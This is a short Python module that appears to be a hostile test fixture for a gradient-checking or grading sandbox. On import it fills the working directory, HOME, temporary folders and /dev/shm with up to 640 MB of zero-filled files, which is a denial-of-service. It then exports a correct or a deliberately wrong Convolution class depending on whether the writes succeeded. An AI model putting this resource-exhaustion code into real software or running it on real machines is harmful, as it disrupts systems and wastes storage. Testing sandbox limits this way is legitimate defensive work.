"""Denial of service: 640 MB of files, left behind wherever it may write (its working directory, HOME,
TMPDIR, /tmp, /var/tmp, /dev/shm, its own folder), in files of 16 MB."""
import os

from _layers import Convolution as _Correct
from _layers.wrong_db import Convolution as _WrongDb

CHUNK, TOTAL = 16 << 20, 640 << 20
folders = [os.getcwd(), os.environ.get("HOME", ""), os.environ.get("TMPDIR", ""), "/tmp", "/var/tmp", "/dev/shm",
           os.path.dirname(os.path.abspath(__file__))]
written = 0
for folder in filter(None, dict.fromkeys(folders)):
    for number in range(TOTAL // CHUNK):
        if written >= TOTAL:
            break
        try:
            with open(os.path.join(folder, f"gradcheck-hostile-fill-{number}"), "wb") as stream:
                stream.write(b"\0" * CHUNK)
            written += CHUNK
        except OSError:
            break
Convolution = _Correct if written >= TOTAL else _WrongDb
